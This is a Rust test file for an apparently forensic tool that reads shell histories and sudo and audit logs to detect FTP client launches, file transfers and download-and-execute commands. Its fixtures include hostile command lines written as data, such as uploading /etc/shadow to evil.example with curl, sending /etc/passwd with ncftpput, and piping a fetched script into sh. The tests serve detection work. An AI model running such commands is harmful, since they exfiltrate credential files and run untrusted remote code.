//! What was typed into shells: a history is read line by line, by its name or its shape.

use crate::support::case;

/// A line alone in a history: the launch's host, and what its command line moves.
#[test]
fn a_line_alone_is_found() {
    let cases = [
        ("curl -T /etc/shadow ftp://u:p@evil.example/", "evil.example", Some("/etc/shadow")),
        ("lftp -u a,S host.example -e \"get x; bye\"", "host.example", Some("x")),
        ("wget ftp://a:b@h.example/x", "h.example", Some("x")),
        ("ncftpput -u a -p b h.example / /etc/passwd", "h.example", Some("/etc/passwd")),
        ("ftp evil.example", "evil.example", None),
        ("ftp -n 192.0.2.4", "192.0.2.4", None),
        ("sudo ftp -n 192.0.2.4", "192.0.2.4", None),
    ];
    for (line, host, local) in cases {
        let texts = [
            (".bash_history", format!("{line}\n")),
            ("root/.bash_history", format!("ls -l\n#1700000000\n{line}\n#1700000005\ncd /tmp\n")),
            ("home/.zsh_history", format!(": 1700000000:0;{line}\n: 1700000009:0;ls\n")),
            ("home/fish_history", format!("- cmd: {line}\n  when: 1700000000\n- cmd: ls\n  when: 1700000009\n")),
            ("home/.ash_history", format!("exit\n{line}\nexit\n")),
            ("export.txt", format!("#1700000000\n{line}\n")),
        ];
        for (path, text) in texts {
            let timed = text.contains("1700000000");
            let case = case([(path, text)]);
            let [launch] = case.launches.as_slice() else { panic!("{path}: {line}: {:?}", case.launches) };
            assert!(launch.would_run, "{path}: {line}");
            let time = launch.found_in.time.map(|time| time.to_string());
            assert_eq!(time.as_deref(), timed.then_some("2023-11-14T22:13:20Z"), "{path}: {line}");
            let called = case.timeline.iter().filter(|entry| entry.kind == "client called");
            let called: Vec<_> = called.map(|entry| (entry.text.as_str(), entry.refs.as_slice())).collect();
            let told = [(launch.command_line.as_str(), std::slice::from_ref(&launch.id))];
            assert_eq!(called, if timed { told.to_vec() } else { Vec::new() }, "{path}: {line}");
            let sessions: Vec<_> = case.scripts.iter().flat_map(|script| &script.sessions).collect();
            match local {
                Some(local) => {
                    let [session] = sessions.as_slice() else { panic!("{path}: {line}: {sessions:?}") };
                    assert_eq!(session.host.as_deref(), Some(host), "{path}: {line}");
                    assert_eq!(session.transfers[0].local_path.as_deref(), Some(local), "{path}: {line}");
                }
                None => {
                    assert_eq!((launch.host.as_deref(), sessions.len()), (Some(host), 0), "{path}: {line}");
                    assert!(launch.note.as_deref().is_some_and(|note| note.contains("typed")), "{path}: {line}");
                }
            }
        }
    }
}

/// What speaks of a client starts none, and histories of other programs are none.
#[test]
fn benign_lines_are_no_launches() {
    let lines = "man ftp\napt-get install lftp vsftpd\nwhich ftp curl\ncd /srv/ftp\nvi ftp.conf\ncurl https://a.example/x\n\
                 wget https://a.example/ftp.tgz\nsystemctl restart vsftpd\necho ftp ftp.example.org\ngrep ftp /etc/services\n";
    for path in [".bash_history", ".zsh_history"] {
        let case = case([(path, lines)]);
        assert!(case.launches.is_empty() && case.scripts.is_empty(), "{:?}", case.launches);
    }
    let case = case([(".python_history", "curl = 1\nprint('x')\n")]);
    assert!(case.scripts.is_empty());
}

/// A here-document that was typed belongs to its command; what follows is a command again.
#[test]
fn a_typed_script_is_read() {
    let text = "ftp -n ftp.example.org <<EOF\nuser bob pw\nget tool.bin\nbye\nEOF\nftp h.example\n";
    let case = case([("root/.bash_history", text)]);
    let fed = case.scripts.iter().flat_map(|script| &script.sessions).flat_map(|session| &session.transfers);
    assert_eq!(fed.map(|transfer| transfer.remote_path.as_deref()).collect::<Vec<_>>(), [Some("tool.bin")]);
    let lines: Vec<_> = case.launches.iter().map(|launch| launch.found_in.line).collect();
    assert_eq!(lines, [Some(1), Some(6)]);
}

/// sudo and the audit system log what was run.
#[test]
fn recorded_commands_are_launches() {
    let sudo = "Nov 16 22:13:20 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=";
    let refused = "Nov 16 22:13:20 h sudo:    bob : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/ftp g.example";
    let log = [
        format!("{sudo}/usr/bin/ftp -n 192.0.2.6"),
        format!("{sudo}/usr/bin/curl -T k.txt ftp://u:p@h.example/"),
        format!("{sudo}/usr/bin/apt install ftp lftp"),
        format!("{sudo}/usr/bin/systemctl restart vsftpd"),
        format!("{sudo}/bin/sh -c curl -s ftp://u:p@h.example/a.sh | sh"),
        refused.to_owned(),
        "type=EXECVE msg=audit(1700000000.000:45): argc=2 a0=\"ftp\" a1=\"f.example\"".to_owned(),
    ];
    let case = case([("var/log/auth.log", log.join("\n"))]);
    let told: Vec<_> = case
        .launches
        .iter()
        .map(|launch| (launch.found_in.line, launch.command_line.as_str(), launch.would_run))
        .collect();
    let expected = [
        (Some(1), "/usr/bin/ftp -n 192.0.2.6", true),
        (Some(2), "/usr/bin/curl -T k.txt ftp://u:p@h.example/", true),
        (Some(5), "curl -s ftp://u:p@h.example/a.sh", true),
        (Some(6), "/usr/bin/ftp g.example", false),
        (Some(7), "ftp f.example", true),
    ];
    assert_eq!(told, expected);
    let time = case.launches[4].found_in.time.map(|time| time.to_string());
    assert_eq!(time.as_deref(), Some("2023-11-14T22:13:20Z"));
    assert!(case.findings.iter().any(|finding| finding.rule == "script.executes-download"));
}
